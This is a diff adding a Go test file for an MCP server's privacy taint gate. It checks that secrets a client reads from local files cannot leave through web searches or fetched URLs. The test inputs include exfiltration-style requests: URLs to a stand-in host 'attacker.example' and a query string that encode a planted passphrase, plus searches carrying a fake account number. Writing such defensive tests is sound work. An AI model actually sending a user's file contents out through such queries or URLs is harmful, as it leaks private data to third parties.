@@ -1,0 +1,97 @@
+package mcp
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"footnote/backend/answer"
+	"footnote/backend/evidence"
+	"footnote/backend/library"
+	"footnote/backend/privacy"
+)
+
+// overheard notes every query and address that leaves.
+type overheard struct {
+	answer.WebSearch
+	answer.Reader
+	mu   sync.Mutex
+	left []string
+}
+
+func (o *overheard) note(text string) {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+	o.left = append(o.left, text)
+}
+
+func (o *overheard) Search(ctx context.Context, q answer.WebQuery, names []string, each func(answer.EngineResult)) {
+	o.note(q.Text)
+	o.WebSearch.Search(ctx, q, names, each)
+}
+
+func (o *overheard) Read(ctx context.Context, lead evidence.Lead) (evidence.Document, bool, error) {
+	o.note(lead.Source.Address)
+	return o.Reader.Read(ctx, lead)
+}
+
+func withSecret(t *testing.T) (*client, *overheard) {
+	t.Helper()
+	h := build(t)
+	if err := os.WriteFile(filepath.Join(filepath.Dir(h.file), "diary.md"), []byte("The account for the Lorne bridge is 4417 8822 0193, the words are amber falcon.\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	shelf := h.Shelf.(*library.Library)
+	if _, err := shelf.Add(t.Context(), []string{filepath.Dir(h.file)}, false); err != nil {
+		t.Fatal(err)
+	}
+	if err := shelf.Wait(t.Context(), []string{filepath.Dir(h.file)}, func(library.File) {}); err != nil {
+		t.Fatal(err)
+	}
+	out := &overheard{WebSearch: h.Web, Reader: h.Reader}
+	h.Web, h.Reader = out, out
+	return connect(t, h.Rooms), out
+}
+
+func TestWhatAClientReadInFilesLeavesInNoSearch(t *testing.T) {
+	c, out := withSecret(t)
+	if text, _ := c.call(t, "search_library", map[string]any{"query": "Lorne bridge"}); !strings.Contains(text, "amber falcon") {
+		t.Fatalf("the client was not told: %q", text)
+	}
+	c.call(t, "search_web", map[string]any{"query": "Lorne bridge length 441788220193"})
+	if text, result := c.call(t, "search_web", map[string]any{"query": "amber falcon"}); !result.IsError || !strings.Contains(text, "stand only in the user's files") {
+		t.Errorf("%v %q", result.IsError, text)
+	}
+	for _, address := range []string{"https://example.org/lorne?utm_source=amber+falcon", "https://attacker.example/amber/falcon", "https://attacker.example/qzfxw"} {
+		c.call(t, "read_source", map[string]any{"url": address})
+	}
+	if want := []string{"Lorne bridge length", "https://example.org/lorne"}; !slices.Equal(out.left, want) {
+		t.Errorf("%q left, not %q", out.left, want)
+	}
+}
+
+// TestAQuestionSaysWhatItsClientReadInFiles follows a question to the engine: its
+// own gate is asked of the words.
+func TestAQuestionSaysWhatItsClientReadInFiles(t *testing.T) {
+	s := newSession(nil)
+	s.taint.Wrote("How long is the Lorne bridge?")
+	s.taint.Read("The account for the Lorne bridge is 4417 8822 0193, the words are amber falcon.")
+	untold := s.untold("How long is the Lorne bridge amber 441788220193 https://attacker.example/qzfxw ?")
+	taint := privacy.NewTaint()
+	taint.Read(untold)
+	if kept, _ := taint.Kept("How long is the Lorne bridge amber 441788220193 https://attacker.example/qzfxw ?"); kept != "How long is the Lorne bridge ?" {
+		t.Errorf("%q of it leaves; untold %q", kept, untold)
+	}
+}
+
+func TestAPageOfAnEarlierAnswerMayBeRead(t *testing.T) {
+	c, _ := withSecret(t)
+	c.call(t, "ask", map[string]any{"question": "How long is the Lorne bridge?", "focus": "web"})
+	if text, result := c.call(t, "read_source", map[string]any{"url": "https://example.org/lorne"}); result.IsError || !strings.Contains(text, "503 metres") {
+		t.Errorf("%v %q", result.IsError, text)
+	}
+}
